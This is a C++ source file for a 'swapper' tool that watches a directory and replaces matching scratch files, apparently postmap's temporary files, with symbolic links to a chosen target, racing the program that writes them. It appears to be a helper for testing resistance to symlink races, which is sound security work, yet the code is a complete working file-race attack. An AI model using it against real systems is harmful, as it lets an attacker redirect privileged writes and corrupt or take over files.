// An attacker inside a directory that belongs to it: waits for names to appear and puts
// something else in their place, as soon as the kernel reports them.
//
//   swapper ACCOUNT DIRECTORY PREFIX TARGET
//
// Replaces each scratch file whose name begins with PREFIX by a symbolic link to TARGET.
// Prints "ready" once it watches, and at the end of its standard input how many names it has
// swapped.
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <pwd.h>
#include <string>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

[[noreturn]] void fail(const char* what) {
    std::fprintf(stderr, "swapper: %s: %s\n", what, std::strerror(errno));
    _exit(2);
}

void become(const char* account) {
    const passwd* entry = ::getpwnam(account);
    if (entry == nullptr || ::setgroups(0, nullptr) != 0 ||
        ::setresgid(entry->pw_gid, entry->pw_gid, entry->pw_gid) != 0 ||
        ::setresuid(entry->pw_uid, entry->pw_uid, entry->pw_uid) != 0) {
        fail(account);
    }
}

/// Replaces the name by the link; false when the name had gone before.
bool swap(const char* name, const char* target) {
    struct stat status;
    if (::lstat(name, &status) != 0 || S_ISLNK(status.st_mode)) {
        return false;
    }
    const std::string prepared = std::string(".swap-") + name;
    ::unlink(prepared.c_str());
    return ::symlink(target, prepared.c_str()) == 0 && ::rename(prepared.c_str(), name) == 0;
}

/// Whether the name is a scratch file's: the prefix and more, and not the index beside
/// it, which postmap opens by its name.
bool isScratch(const std::string& name, const std::string& prefix) {
    const std::string index = ".db";
    const bool isIndex = name.size() > index.size() &&
                         name.compare(name.size() - index.size(), index.size(), index) == 0;
    return name.size() > prefix.size() && name.compare(0, prefix.size(), prefix) == 0 && !isIndex;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 5) {
        return 2;
    }
    const std::string prefix = argv[3];
    become(argv[1]);
    const int watch = ::inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (::chdir(argv[2]) != 0 ||
        ::inotify_add_watch(watch, ".", IN_CREATE | IN_CLOSE_WRITE | IN_ATTRIB | IN_MOVED_TO) < 0) {
        fail(argv[2]);
    }
    std::puts("ready");
    std::fflush(stdout);
    long swapped = 0;
    pollfd polled[] = {{STDIN_FILENO, POLLIN, 0}, {watch, POLLIN, 0}};
    while (::poll(polled, 2, -1) > 0 && polled[0].revents == 0) {
        alignas(inotify_event) char events[16384];
        const ssize_t size = ::read(watch, events, sizeof(events));
        for (ssize_t at = 0; at < size;) {
            const auto* event = reinterpret_cast<const inotify_event*>(events + at);
            if (event->len > 0 && isScratch(event->name, prefix)) {
                swapped += swap(event->name, argv[4]) ? 1 : 0;
            }
            at += static_cast<ssize_t>(sizeof(inotify_event) + event->len);
        }
    }
    std::printf("%ld\n", swapped);
    return 0;
}
